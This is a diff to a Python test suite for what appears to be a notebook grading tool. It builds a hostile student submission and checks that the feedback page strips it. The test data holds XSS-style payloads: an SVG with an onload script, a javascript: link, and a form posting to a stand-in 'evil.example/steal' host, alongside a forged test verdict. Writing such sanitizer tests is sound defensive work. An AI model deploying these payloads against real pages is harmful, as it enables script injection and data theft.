@@ -45,6 +45,7 @@ HOSTILE_MARKDOWN = (
     '<form action="https://evil.example/steal"><input name="MALLORY-FORM"></form>\n\n'
     '<a href="javascript:alert(\'MALLORY-LINK\')">click</a>\n'
 )
+PHOTO = base64.b64encode(b"\x89PNG\r\n\x1a\n MALLORY-PHOTO").decode()
 SEED = 987654321
 TA_NOTE = "NOTE-FOR-TA-ONLY: kernel said passed"
 HIDDEN_INPUT = "HIDDEN-INPUT-MARKER array([0.5488135, 0.71518937, 0.60276338])"
@@ -128,6 +129,10 @@ def _mallory(course, secrets):
     relu.source = "pass  # MALLORY-EDITED-TEST"
     relu.outputs = [new_output("stream", name="stdout", text="MALLORY-FORGED-VERDICT test_relu passed\n")]
     nb.cells.insert(1, new_markdown_cell(HOSTILE_MARKDOWN))
+    answer = _cell(nb, "derivation")  # her written answer: a pasted photo, and an SVG with a script
+    answer.source = "My derivation: ![photo](attachment:photo.png) ![svg](attachment:bad.svg)"
+    answer.attachments = {"photo.png": {"image/png": PHOTO},
+                          "bad.svg": {"image/svg+xml": "<svg onload=\"alert('MALLORY-ATTACH')\"></svg>"}}
     nb.cells.append(new_code_cell("show()", outputs=[
         new_output("stream", name="stdout", text="MALLORY-PLAIN-OUTPUT\n"),
         new_output("display_data", data={
@@ -351,6 +356,8 @@ def test_student_outputs_keep_text_and_images_only(fb):
     for gone in ("MALLORY-HTML", "MALLORY-JS", "MALLORY-SVG", "MALLORY-WIDGET", "MALLORY-WIDTH", "MALLORY-PNG"):
         assert gone not in page, gone
     assert page.count(f'src="data:image/png;base64,{PNG}"') == 1
+    assert page.count(f'src="data:image/png;base64,{PHOTO}"') == 1  # her pasted photo
+    assert "MALLORY-ATTACH" not in page and "image/svg" not in page
 
 
 def test_every_output_is_capped(fb):
